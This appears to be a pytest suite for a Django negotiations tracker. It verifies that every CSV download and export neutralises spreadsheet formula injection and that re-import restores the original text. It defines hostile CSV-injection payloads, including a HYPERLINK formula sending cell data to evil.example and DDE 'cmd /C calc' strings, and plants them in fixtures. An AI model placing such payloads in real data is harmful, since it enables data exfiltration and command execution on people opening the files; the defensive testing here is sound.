"""Every CSV the tracker serves or writes is safe to open in a spreadsheet (no cell that a
spreadsheet would run as a formula), and the importer restores exactly what was neutralised."""

import csv
import io

import pytest
from django.core.management import call_command

from negotiations.choices import ProgressStatus
from negotiations.interchange.importer import run_import
from negotiations.interchange.spreadsheet import FORMULA_TRIGGERS, neutralise_cell, restore_cell
from negotiations.models import ChapterProgress, Round, StatusEvent
from tests import factories as f

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize(
    "value",
    [*HOSTILE, "'=already quoted", "''", "'", "-", "+", "=", "plain", "", "-5", "+3.5", "-1,200.50", "2025-01-01"],
)
def test_neutralising_is_undone_exactly(value):
    written = neutralise_cell(value)
    assert restore_cell(written) == value
    if written:
        assert written[0] not in FORMULA_TRIGGERS or is_plain_number(written)


@pytest.mark.parametrize("value", ["-5", "-12.5", "+3", "-1,200", "2025-01-01", "1e-5", "Lima", "Round 9"])
def test_numbers_dates_and_text_are_not_mangled(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [*HOSTILE, "-", "-x", "+ 1", "-1-1", "=1"])
def test_formulas_get_a_leading_apostrophe(value):
    assert neutralise_cell(value) == "'" + value


def test_non_text_cells_are_left_alone():
    assert [neutralise_cell(v) for v in (-5, 3.5, None)] == [-5, 3.5, None]


def is_plain_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_safe(rows: list[list[str]], *, expect: list[str]):
    cells = [cell for row in rows for cell in row]
    unsafe = [c for c in cells if c and c[0] in FORMULA_TRIGGERS and not is_plain_number(c)]
    assert unsafe == []
    for value in expect:
        assert "'" + value in cells, value


@pytest.fixture
def hostile(db):
    """An official's hostile text in every kind of exported record."""
    agreement = f.agreement("india-peru", summary="@SUM(1+1)*cmd|' /C calc'!A0", short_name="+cmd")
    venue = f.venue("Lima", "PER", place=HYPERLINK)
    round_obj = f.round_(agreement, 9, venue=venue, title="", venue_note="+cmd|' /C calc'!A0", summary=HYPERLINK)
    f.progress(round_obj, "ROO", status=ProgressStatus.UNDER_NEGOTIATION, note="-2+3+cmd|' /C calc'!A0")
    f.note(round_obj, text=HYPERLINK, chapter_code="ROO")
    StatusEvent.objects.create(agreement=agreement, status="launched", date="2017-01-18", note="@SUM(1)")
    return agreement


SURFACES = [
    ("/rounds/?format=csv", ["+cmd|' /C calc'!A0"]),
    ("/agreements/?format=csv", []),
    ("/chapters/ROO/?format=csv", []),
    ("/api/rounds/?format=csv", [HYPERLINK, "+cmd|' /C calc'!A0"]),
    ("/api/agreements/?format=csv", ["@SUM(1+1)*cmd|' /C calc'!A0"]),
    ("/api/chapter-progress/?format=csv", ["-2+3+cmd|' /C calc'!A0"]),
    ("/api/notes/?format=csv", [HYPERLINK]),
    ("/api/status-events/?format=csv", ["@SUM(1)"]),
    ("/api/export/rounds.csv", [HYPERLINK, "+cmd|' /C calc'!A0"]),
    ("/api/export/agreements.csv", ["@SUM(1+1)*cmd|' /C calc'!A0"]),
    ("/api/export/chapter-progress.csv", ["-2+3+cmd|' /C calc'!A0"]),
    ("/api/export/status-events.csv", ["@SUM(1)"]),
]


@pytest.mark.parametrize(("url", "expect"), SURFACES)
def test_every_csv_download_is_safe(client, hostile, url, expect):
    assert_safe(rows_of(client.get(url)), expect=expect)


def test_export_all_files_are_safe(hostile, tmp_path):
    call_command("export_all", str(tmp_path), "--include-confidential")
    files = sorted(tmp_path.glob("*.csv"))
    assert files
    for path in files:
        assert_safe(list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""))), expect=[])


def test_export_then_import_is_lossless(client, hostile):
    """The interchange files from /api/export/ read back through the importer as typed."""
    rounds = b"".join(client.get("/api/export/rounds.csv").streaming_content)
    progress = b"".join(client.get("/api/export/chapter-progress.csv").streaming_content)
    assert b"'+cmd" in rounds and b"'-2+3" in progress  # neutralised in the file
    before = Round.objects.values_list("venue_note", "summary").get()
    progress_before = ChapterProgress.objects.values_list("note", flat=True).get()
    Round.objects.all().delete()
    for kind, data in (("rounds", rounds), ("chapter-progress", progress)):
        report = run_import(kind=kind, data=data, filename=f"{kind}.csv")
        assert not report.errors, report.errors
    assert Round.objects.values_list("venue_note", "summary").get() == before == ("+cmd|' /C calc'!A0", HYPERLINK)
    assert ChapterProgress.objects.values_list("note", flat=True).get() == progress_before
